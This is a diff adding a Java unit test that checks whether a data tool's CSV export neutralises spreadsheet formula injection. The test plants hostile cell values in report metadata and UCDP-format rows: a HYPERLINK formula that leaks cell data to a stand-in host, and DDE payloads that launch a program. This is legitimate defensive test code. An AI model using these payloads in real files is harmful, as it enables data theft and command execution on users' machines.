@@ -102,4 +102,57 @@ class AdversarialPassTest {
             assertEquals(List.of(report), s.toList(), "no side files were made");
         }
     }
+
+    // ---- item 2: spreadsheet formula injection ----
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAreNeutralised() throws Exception {
+        Path dir = Files.createDirectories(tmp.resolve("formula"));
+        Path db = dir.resolve("f.db");
+        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        Path report = dir.resolve("r.txt");
+        Files.writeString(report, link + " قصفت طائرات حربية مدينة حلب وقتل 3 مدنيين.\n");
+        Files.writeString(dir.resolve("r.meta.tsv"), "file\toutlet\tpublished\tprecision\tbasis\nr.txt\t@SUM(1+1)*cmd|' /C calc'!A0\t2016-03-10\tday\ttest\n");
+        assertEquals(0, Cli.run("ingest", "--db", db.toString(), report.toString()).exit());
+        Path ucdp = dir.resolve("ucdp.csv");
+        try (var in = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build()
+                .parse(Files.newBufferedReader(HostileInputsTest.excerpt()));
+             var out = new org.apache.commons.csv.CSVPrinter(Files.newBufferedWriter(ucdp), org.apache.commons.csv.CSVFormat.DEFAULT)) {
+            List<String> header = in.getHeaderNames();
+            out.printRecord(header);
+            var first = in.iterator().next();
+            List<String> row = new java.util.ArrayList<>();
+            for (String h : header) {
+                row.add(switch (h) {
+                    case "source_headline" -> link;
+                    case "source_office" -> "+1+cmd|' /C calc'!A0";
+                    case "where_coordinates" -> "-2+3";
+                    case "adm_1" -> "\t=1+1";
+                    default -> first.get(h);
+                });
+            }
+            out.printRecord(row);
+        }
+        assertEquals(0, Cli.run("import", "--db", db.toString(), "--format", "ucdp", ucdp.toString()).exit());
+        Path csv = dir.resolve("out.csv");
+        Cli.Run r = Cli.run("export", "--db", db.toString(), "--format", "csv", "--no-bom", "--out", csv.toString());
+        assertEquals(0, r.exit(), r.err());
+        List<org.apache.commons.csv.CSVRecord> rows;
+        try (var p = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build().parse(Files.newBufferedReader(csv))) {
+            rows = p.getRecords();
+        }
+        assertTrue(rows.size() >= 2, "the report's event and the UCDP row: " + rows.size());
+        java.util.Set<String> cells = new java.util.HashSet<>();
+        for (var row : rows) {
+            for (String column : row.toMap().keySet()) {
+                String v = row.get(column);
+                if (column.equals("latitude") || column.equals("longitude") || v.isEmpty()) continue;
+                assertFalse("=+-@\t\r".indexOf(v.charAt(0)) >= 0, column + " starts with a formula character: " + v);
+                cells.add(v);
+            }
+        }
+        assertTrue(cells.contains("'" + link), "the UCDP headline, quoted: " + cells);
+        assertTrue(cells.contains("'+1+cmd|' /C calc'!A0"), "the UCDP source office, quoted: " + cells);
+        assertTrue(cells.stream().anyMatch(c -> c.startsWith("'@SUM(1+1)")), "the outlet, quoted: " + cells);
+    }
 }
